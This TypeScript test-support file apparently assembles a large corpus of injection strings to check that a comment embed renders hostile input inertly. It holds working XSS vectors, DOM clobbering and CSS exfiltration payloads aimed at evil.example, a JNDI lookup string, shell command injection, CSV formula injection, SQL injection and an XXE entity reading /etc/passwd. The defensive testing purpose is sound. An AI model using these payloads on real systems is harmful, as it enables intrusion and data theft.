import { payloads } from '../e2e/support/payloads.ts';

// What somebody sends who wants another's page to run it: every family, put together from their parts. None of it may run,
// load or lead anywhere, and all of it is to be shown as it was written.

/** Each of one with each of the other. */
const each = <A, B>(ones: readonly A[], others: readonly B[], join: (one: A, other: B) => string): string[] =>
  ones.flatMap((one) => others.map((other) => join(one, other)));

const words = (text: string): string[] => text.trim().split(/\s+/);
const lines = (text: string): string[] =>
  text
    .trim()
    .split('\n')
    .map((line) => line.trim());

const tags =
  words(`a abbr applet audio body button custom-tag dialog div embed form frameset iframe img input keygen link
  marquee math meter object p script select style svg textarea video`);
const handlers = words('onload onerror onfocus onclick onpointerenter');

const everyHandler =
  words(`onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy
  onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce
  oncancel oncanplay oncanplaythrough onchange onclose oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange
  oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop ondurationchange onend onended
  onfinish onfocusin onfocusout onformdata onfullscreenchange onhashchange oninput oninvalid onkeydown onkeypress onkeyup
  onloadeddata onloadedmetadata onloadstart onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout
  onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste onpause onplay onplaying onpointerdown onpointermove
  onpointerout onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll
  onscrollend onsearch onseeked onseeking onselect onselectionchange onselectstart onshow onstart onsubmit onsuspend
  ontimeupdate ontoggle ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun
  ontransitionstart onunhandledrejection onunload onvolumechange onwebkitanimationend onwheel`);

const breakouts =
  words(`" ' "> '> \`> --> ]]> */ "/> '/> </title> </textarea> </style> </script> </noscript> </template>
  </a> </p></div> </article></li> </time> </select> </iframe> </xmp> </plaintext> </svg> </math>`);
const vectors = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#115;cript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'javascript&colon;alert(1)',
  ' javascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript:/*--></title></style>*/alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'view-source:javascript:alert(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
  'https:evil.example',
];
const holders = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<iframe src='${address}'></iframe>`,
  (address: string) => `<form action=${address}><input type=submit></form>`,
  (address: string) => `<svg><use href="${address}"/></svg>`,
  (address: string) => `[x](${address})`,
  (address: string) => `![x](${address})`,
  (address: string) => `<${address}>`,
];

const spelledOtherwise: ((text: string) => string)[] = [
  (text) => text.replace(/[<>"'=()]/g, (letter) => `&#${letter.charCodeAt(0)};`),
  (text) => text.replace(/[<>"'=()]/g, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
  (text) => text.replace(/[<>"'=()]/g, (letter) => `&#00000${letter.charCodeAt(0)}`),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replace(/[<>]/g, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>]/g, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>]/g, (letter) => (letter === '<' ? '+ADw-' : '+AD4-')),
  (text) => text.replace(/[<>]/g, (letter) => (letter === '<' ? '\uFF1C' : '\uFF1E')),
  (text) => text.replace(/[<>]/g, (letter) => (letter === '<' ? '\u2039' : '\u203A')),
  (text) => text.replace(/[<>]/g, (letter) => (letter === '<' ? '%C0%BC' : '%C0%BE')),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('alert', 'al\u200Bert'),
  (text) => text.replaceAll('<', '\u202E<'),
  (text) => text.replaceAll('<', '<\0'),
  (text) => `&amp;${text.replaceAll('<', '&lt;')}`,
];

const foreign = lines(`
  <svg><script href="data:,alert(1)"/></svg>
  <svg><set attributeName=href to=javascript:alert(1)>
  <svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>
  <svg><foreignObject><body onload=alert(1)></foreignObject></svg>
  <svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
  <svg><style><img src=x onerror=alert(1)></style></svg>
  <svg><title><style></title><img src=x onerror=alert(1)></svg>
  <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
  <svg><image href=x onerror=alert(1)>
  <math href="javascript:alert(1)">x</math>
  <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
  <math><mi//xlink:href="data:x,<script>alert(1)</script>">
  <math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
  <noscript><style></noscript><img src=x onerror=alert(1)></style>
  <noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
  <xmp><p title="</xmp><svg/onload=alert(1)>">
  <table><a id="</table><img src=x onerror=alert(1)>">
  <select><option><style></option></select><img src=x onerror=alert(1)></style>
  <template><s><template shadowrootmode=open><s><slot></template></s></template><img src=x onerror=alert(1)>
  <p style="font-family:'\\22\\3bx:expression(alert(1))/*'">
  <plaintext><script>alert(1)</script>
  <isindex type=image src=1 onerror=alert(1)>
  <x><!--<img title="--><img src=x onerror=alert(1)>">
  <!--><img src=x onerror=alert(1)-->
  <![><img src=x onerror=alert(1)>
  <?xml-stylesheet href="javascript:alert(1)"?>
  <?php echo "<script>alert(1)</script>" ?>
  <!DOCTYPE x [<!ENTITY a "<script>alert(1)</script>">]>&a;
  <!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;
  ]]></content></entry><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
  </name></author><link rel="alternate" href="javascript:alert(1)"/>
  </content></entry></feed><entry>
  <html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`);

const clobbering = lines(`
  <form id=form><input name=token value=x></form>
  <input name=token value=stolen>
  <input name=parent value=AAAAAAAAAAAAAAAAAAAAAA>
  <a id=done href=//evil.example>x</a>
  <img name=currentScript src=//evil.example/x>
  <form name=body></form><img name=getElementById>
  <iframe name=self srcdoc="<a id=x>"></iframe>
  <a id=defaultView><a id=defaultView name=customElements>
  <base target=_blank href=//evil.example/>
  <button form=form formaction=//evil.example>x</button>
  <input form=form name=email value=eve@evil.example>
  <label for=message onclick=alert(1)>x</label>
  <waxwing-comments data-thread=x></waxwing-comments>
  <script src="/embed.js" data-thread="x"></script>`);

const styling = lines(`
  <style>@import '//evil.example/x.css';</style>
  <style>input[value^=v]{background:url(//evil.example/v)}</style>
  <link rel=preload as=image href=//evil.example/x>
  <link rel=prefetch href=//evil.example/x>
  <link rel=manifest href=//evil.example/x>
  <div style="background:url(//evil.example/x)">
  <div style="background-image:image-set('//evil.example/x' 1x)">
  <div style=width:expression(alert(1))>
  <div style="behavior:url(#default#time2)" onbegin="alert(1)">
  <div style="-moz-binding:url(//evil.example/x#y)">
  <img src="//evil.example/x.png">
  <img src='//evil.example/?
  <img srcset="//evil.example/x 1x">
  <picture><source srcset=//evil.example/x><img></picture>
  <video poster=//evil.example/x><source src=//evil.example/y></video>
  <audio autoplay src=//evil.example/x>
  <track src=//evil.example/x>
  <input type=image src=//evil.example/x>
  <table background=//evil.example/x>
  <body background="//evil.example/x">
  <object data=//evil.example/x></object>
  <portal src=//evil.example/x></portal>
  <fencedframe src=//evil.example/x></fencedframe>
  <meta http-equiv="refresh" content="0; url=data:text/html,x">
  <meta http-equiv=Content-Security-Policy content="script-src *">
  <meta charset=utf-7>
  <a ping=//evil.example/x href=#>x</a>
  <textarea>
  <title>
  <!--
  <script>/*`);

const templates = lines(`
  {{7*7}}
  {{constructor.constructor('alert(1)')()}}
  {{$on.constructor('alert(1)')()}}
  {{_c.constructor('alert(1)')()}}
  <div v-html="'<img src=x onerror=alert(1)>'"></div>
  <div ng-app ng-csp><input ng-focus=$event.view.alert(1) autofocus></div>
  <div x-data x-init="alert(1)"></div>
  <div data-bind="html:'<img src=x onerror=alert(1)>'"></div>
  <div hx-on:load="alert(1)" hx-get="//evil.example"></div>
  #{7*7}
  {name} {text} {count, plural, one {x} other {#}}
  $& $1 $$ $<name> %s %d \x24
  \${7*7}
  \${{7*7}}
  <%= 7*7 %>
  <% alert(1) %>
  {% raw %}<script>alert(1)</script>{% endraw %}
  {{{@html "<script>alert(1)</script>"}}}
  {@html '<script>alert(1)</script>'}
  [[\${7*7}]]
  @(7*7)
  *{7*7}
  \${jndi:ldap://evil.example/a}
  $(touch /tmp/waxwing-was-here)
  ;alert(1)//
  ');alert(1)//
  ";alert(1)//
  \\";alert(1)//
  \\');alert(1)//
  </script><script>alert(1)//
  '-alert(1)-'
  "+alert(1)+"
  {"message":"<script>alert(1)</script>"}
  {"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}
  constructor[prototype][src]=data:,alert(1)
  %0d%0aSet-Cookie:%20waxwing=1
  %0d%0a%0d%0a<script>alert(1)</script>
  =HYPERLINK("//evil.example","x")
  =cmd|' /C calc'!A0
  @SUM(1+1)*cmd|' /C calc'!A0
  ' OR '1'='1
  '); DELETE FROM comments; --
  1 UNION SELECT * FROM accounts`);

const markup = lines(`
  [x](https://example.org/"onmouseover="alert(1))
  [x](https://example.org/'onmouseover='alert(1))
  [x](https://example.org/ "onmouseover=alert(1)")
  [x](https://example.org\\x0ajavascript:alert(1))
  [<img src=x onerror=alert(1)>](https://example.org)
  [x](<javascript:alert(1)>)
  [x][1] [1]: javascript:alert(1)
  [a]: <javascript:alert(1)>
  [https://bank.example](https://evil.example)
  https://bank.example@evil.example/
  https://example.org/<script>alert(1)</script>
  https://example.org/"><img/src=x/onerror=alert(1)>
  https://example.org/'onfocus=alert(1)/autofocus
  http://javascript:alert(1)
  https://example.org/?x=javascript:alert(1)#<svg/onload=alert(1)>
  ![x](https://evil.example/x.png)
  ![x](//evil.example/x.png "onerror=alert(1)")
  <https://example.org/"onclick=alert(1)>
  <javascript:alert(1)>
  **<b onclick=alert(1)>x</b>**
  *<img src=x onerror=alert(1)>*
  _<svg onload=alert(1)>_
  \`<script>alert(1)</script>\`
  > <img src=x onerror=alert(1)>
  ~~~html <script>alert(1)</script>
  | <img src=x onerror=alert(1)> | x |
  # <script>alert(1)</script>
  1. <script>alert(1)</script>
  :img[x]{src=x onerror=alert(1)}
  https://www.\u0430pple.example/
  https://xn--pple-43d.example/
  hTTps://example.org/x JAVASCRIPT:alert(1) hxxps://example.org
  @evil.example/x
  jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert(1)//>`);

const all = [
  ...payloads,
  ...each(tags, handlers, (tag, handler) => `<${tag} ${handler}=alert(1) tabindex=0 autofocus src=x>`),
  ...everyHandler.map((handler) => `"${handler}="alert(1)" contenteditable autofocus x="`),
  ...each(breakouts, vectors, (breakout, vector) => breakout + vector),
  ...each(addresses, holders, (address, holder) => holder(address)),
  ...each(spelledOtherwise, vectors, (spelled, vector) => spelled(vector)),
  ...foreign,
  ...clobbering,
  ...styling,
  ...templates,
  ...markup,
];

/** Each once. */
export const injections: readonly string[] = [...new Set(all.map((text) => text.trim()))];
